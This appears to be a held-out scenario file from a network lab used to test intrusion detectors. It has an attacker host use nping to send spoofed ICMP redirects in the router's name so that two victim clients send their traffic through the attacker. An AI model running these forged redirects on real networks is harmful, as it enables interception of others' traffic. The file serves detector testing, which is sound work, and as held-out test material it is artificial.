"""nping: two redirects for the name server, without the router's name."""

import socket
import struct

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, router, www = net.inside("attacker"), net.router(), net.web(net.outside("www"))
    victims = [net.inside("pc3"), net.inside("pc4")]
    net.everyday()
    for victim in victims:
        net.loop(victim, f"curl -s -m 3 -o /dev/null http://{www.ip}/", 1.1)
    net.quiet(2)
    with net.attack(
        "icmp-redirect",
        by=attacker,
        victims=victims,
        frames="icmp[0] == 5",
        also=["ip-spoofing"],
        others={"claimed": [router]},
    ):
        for victim in victims:
            # What it is about: a TCP segment of the victim to the server (RFC 792).
            quoted = struct.pack(">BBHHHBBH", 0x45, 0, 60, 7, 0, 64, 6, 0)
            quoted += socket.inet_aton(victim.ip) + socket.inet_aton(www.ip)
            quoted += struct.pack(">HHI", 40000, 80, 1)
            words = f"nping -q --icmp --icmp-type 5 --icmp-code 0 --icmp-redirect-addr {attacker.ip}"
            net.tool(
                attacker,
                *words.split(),
                *f"-S {router.ip} -e eth0 --rate 1 -c 2 --data {quoted.hex()} {victim.ip}".split(),
            )
    net.quiet(3)


SCENARIO = Scenario(
    name="icmp-redirect-held-nping",
    about="nping tells two clients twice each, in the router's name, to use the attacker as gateway.",
    detectors=("icmp-redirect",),
    tools={"nping": "nmap"},
    held_out=True,
    run=run,
)
